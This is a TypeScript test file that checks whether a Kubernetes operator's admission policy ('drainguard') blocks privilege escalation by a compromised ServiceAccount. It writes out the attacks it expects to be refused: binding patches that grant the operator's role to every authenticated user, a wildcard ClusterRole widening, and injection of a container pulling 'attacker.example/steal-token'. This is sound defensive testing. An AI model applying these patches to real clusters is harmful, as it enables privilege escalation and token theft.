// What a compromised operator can do with the rights drainguard's RBAC gives
// its ServiceAccount (drainguard's RBAC is bound to the operator's account: a
// pod has one identity), tried as that account against the rendered examples
// (deploy/rendered/wrap.yaml and hold.yaml, made unique) on the cluster back
// end. RBAC cannot narrow patch to metadata.finalizers; drainguard's admission
// policy does. Each attack is shown refused with the policy, and the first
// one allowed without it: the hole is real.

import { randomBytes } from 'node:crypto';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { type TestCluster, pathOf, useCluster } from '../../support/cluster/index.ts';
import { type Api } from '../../support/cluster/api.ts';
import { type KubeObject, example } from '../../deploy/support/manifests.ts';

let cluster: TestCluster;
test.before(async () => {
  cluster = await useCluster();
});

const MERGE = 'application/merge-patch+json';
const JSON_PATCH = 'application/json-patch+json';
const isPolicy = (o: KubeObject) => o.apiVersion.startsWith('admissionregistration.k8s.io/');

interface Installed {
  readonly objects: KubeObject[];
  readonly ns: string;
  readonly name: string;
  /** The operator's ServiceAccount, as its pod would call. */
  readonly operator: Api;
  readonly own: string;
}

/** Runs `attack` on the example of MODE, installed for it (with or without drainguard's admission policy) and removed after it. */
async function withInstalled(mode: string, withPolicy: boolean, attack: (i: Installed) => Promise<void>): Promise<void> {
  const i = await install(mode, withPolicy);
  try {
    await attack(i);
  } finally {
    await uninstall(i);
  }
}

/** The example of MODE created in the cluster (with or without drainguard's admission policy); the operator's ServiceAccount's API. */
async function install(mode: string, withPolicy: boolean): Promise<Installed> {
  const ex = example(mode, `sec-${randomBytes(3).toString('hex')}`);
  // The CRDs are the cluster's, shared with other files: created when missing, never deleted here.
  for (const crd of ex.objects.filter((o) => o.kind === 'CustomResourceDefinition')) {
    const r = await cluster.api.request('POST', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions', crd);
    assert.ok(r.status === 201 || r.status === 409, `CRD ${crd.metadata.name}: ${r.status}`);
  }
  const objects = ex.objects.filter((o) => o.kind !== 'CustomResourceDefinition' && (withPolicy || !isPolicy(o)));
  for (const o of objects) await cluster.create(o, plural(o));
  // The operator as its Deployment runs it: its namespace and ServiceAccount.
  const deployment = objects.find((o) => o.kind === 'Deployment')!;
  const ns = deployment.metadata.namespace!;
  const token = await cluster.token(ns, deployment.spec.template.spec.serviceAccountName);
  return {
    objects,
    ns,
    name: deployment.metadata.name,
    operator: cluster.api.as(token),
    own: `drainguard:${ns}:${deployment.metadata.name}`,
  };
}

async function uninstall(i: Installed): Promise<void> {
  for (const o of [...i.objects].reverse()) {
    await cluster.api.request('PATCH', pathOf(o, plural(o)), { metadata: { finalizers: null } }, MERGE);
    await cluster.api.delete(pathOf(o, plural(o)));
  }
}

const plural = (o: KubeObject) => (o.kind === 'ValidatingAdmissionPolicy' ? 'validatingadmissionpolicies' : undefined);
const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const crb = (name: string) => `${RBAC}/clusterrolebindings/${name}`;
const EVERYONE = { kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'system:authenticated' };

/** Adds EVERYONE to the subjects of the binding at PATH, as the operator; the response. */
async function addSubject(api: Api, path: string) {
  const binding = (await cluster.api.get(path)) as any;
  return api.request('PATCH', path, { subjects: [...binding.subjects, EVERYONE] }, MERGE);
}

const refusedByPolicy = (r: { status: number; body: any }) =>
  r.status === 422 && /ValidatingAdmissionPolicy '[^']+' with binding '[^']+' denied request: /.test(r.body?.message ?? '');

/**
 * The policy takes effect a moment after it is created (a second or two on a real server): until the attack is refused.
 * Each probe sets a new value: a probe that landed before the policy did would make the same one a no-op, which it allows.
 */
async function inForce(i: Installed): Promise<void> {
  await cluster.waitFor(
    async () => {
      const r = await i.operator.request('PATCH', crb(i.own), { metadata: { labels: { probe: randomBytes(4).toString('hex') } } }, MERGE);
      return refusedByPolicy(r);
    },
    30_000,
    "drainguard's admission policy in force",
  );
}

test('without the policy, the operator adds everyone to its ClusterRoleBinding (the hole is real)', () =>
  withInstalled('wrap', false, async (i) => {
    const r = await addSubject(i.operator, crb(i.name));
    assert.is(r.status, 200, JSON.stringify(r.body));
    const after = (await cluster.api.get(crb(i.name))) as any;
    assert.ok(
      after.subjects.some((s: any) => s.name === 'system:authenticated'),
      "everyone holds the operator's role",
    );
  }));

test("with the policy: no subject added to the operator's binding nor drainguard's, no rule widened; drainguard's finalizers come and go", () =>
  withInstalled('wrap', true, async (i) => {
    await inForce(i);
    for (const binding of [i.name, i.own]) {
      const r = await addSubject(i.operator, crb(binding));
      assert.ok(refusedByPolicy(r), `${binding}: ${r.status} ${JSON.stringify(r.body?.message)}`);
      assert.not.ok(((await cluster.api.get(crb(binding))) as any).subjects.some((s: any) => s.name === 'system:authenticated'));
    }
    // Widening the operator's ClusterRole: refused (the escalation check, and the policy).
    const role = `${RBAC}/clusterroles/${i.name}`;
    const widened = await i.operator.request(
      'PATCH',
      role,
      [{ op: 'add', path: '/rules/-', value: { apiGroups: ['*'], resources: ['*'], verbs: ['*'] } }],
      JSON_PATCH,
    );
    assert.ok(widened.status >= 400, `widened: ${widened.status}`);
    // What drainguard does: a holder finalizer added, then removed.
    const holder = `drainguard.dev/holder-${randomBytes(8).toString('hex')}`;
    for (const path of [crb(i.name), crb(i.own)]) {
      const before = ((await cluster.api.get(path)) as any).metadata.finalizers ?? [];
      const added = await i.operator.request('PATCH', path, { metadata: { finalizers: [...before, holder] } }, MERGE);
      assert.is(added.status, 200, `${path}: ${JSON.stringify(added.body?.message)}`);
      const removed = await i.operator.request('PATCH', path, { metadata: { finalizers: before } }, MERGE);
      assert.is(removed.status, 200, `${path}: ${JSON.stringify(removed.body?.message)}`);
      // Another finalizer is not drainguard's to write.
      const foreign = await i.operator.request('PATCH', path, { metadata: { finalizers: [...before, 'example.com/mine'] } }, MERGE);
      assert.ok(refusedByPolicy(foreign), `${path} foreign finalizer: ${foreign.status}`);
    }
    // The same change by someone else (an administrator) is theirs to make.
    const admin = await addSubject(cluster.api, crb(i.name));
    assert.is(admin.status, 200);
  }));

test("hold: the held Deployment's pod template and ServiceAccount are not the operator's to change; its finalizer is", () =>
  withInstalled('hold', true, async (i) => {
    await inForce(i);
    const path = `/apis/apps/v1/namespaces/${i.ns}/deployments/${i.name}`;
    const account = await i.operator.request('PATCH', path, { spec: { template: { spec: { serviceAccountName: 'default' } } } }, MERGE);
    assert.ok(refusedByPolicy(account), `serviceAccountName: ${account.status} ${JSON.stringify(account.body?.message)}`);
    // A container of the attacker's own, running as the Deployment's ServiceAccount. (A privileged one would be
    // refused before admission by the API server's own --allow-privileged=false, which proves nothing of the policy.)
    const added = await i.operator.request(
      'PATCH',
      path,
      [{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'x', image: 'attacker.example/steal-token' } }],
      JSON_PATCH,
    );
    assert.ok(refusedByPolicy(added), `added container: ${added.status} ${JSON.stringify(added.body?.message)}`);
    const holder = `drainguard.dev/holder-${randomBytes(8).toString('hex')}`;
    assert.is((await i.operator.request('PATCH', path, { metadata: { finalizers: [holder] } }, MERGE)).status, 200);
    assert.is((await i.operator.request('PATCH', path, { metadata: { finalizers: null } }, MERGE)).status, 200);
  }));

test("drainguard's ClusterRole names its own Role and the ServiceAccount in every namespace: elsewhere, same-named ones are held to holder finalizers too", () =>
  withInstalled('wrap', true, async (i) => {
    await inForce(i);
    const other = (await cluster.namespace('sec-other')).name;
    const account = (i.objects.find((o) => o.kind === 'Deployment') as any).spec.template.spec.serviceAccountName as string;
    await cluster.serviceAccount(other, account);
    await cluster.create({
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'Role',
      metadata: { name: i.own, namespace: other },
      rules: [],
    });
    const targets = [`/api/v1/namespaces/${other}/serviceaccounts/${account}`, `${RBAC}/namespaces/${other}/roles/${i.own}`];
    for (const path of targets) {
      // Readable (RBAC cannot say which namespace), not changeable: a label, a rule, a foreign finalizer.
      assert.is((await i.operator.request('GET', path)).status, 200, path);
      const labelled = await i.operator.request('PATCH', path, { metadata: { labels: { owned: 'yes' } } }, MERGE);
      assert.ok(refusedByPolicy(labelled), `${path} label: ${labelled.status} ${JSON.stringify(labelled.body?.message)}`);
      const foreign = await i.operator.request('PATCH', path, { metadata: { finalizers: ['example.com/mine'] } }, MERGE);
      assert.ok(refusedByPolicy(foreign), `${path} foreign finalizer: ${foreign.status}`);
    }
    const widened = await i.operator.request(
      'PATCH',
      targets[1]!,
      { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] },
      MERGE,
    );
    assert.ok(widened.status >= 400, `widened: ${widened.status}`);
    // Other names there stay out of reach.
    assert.is((await i.operator.request('GET', `/api/v1/namespaces/${other}/serviceaccounts/default`)).status, 403);
  }));

test.run();
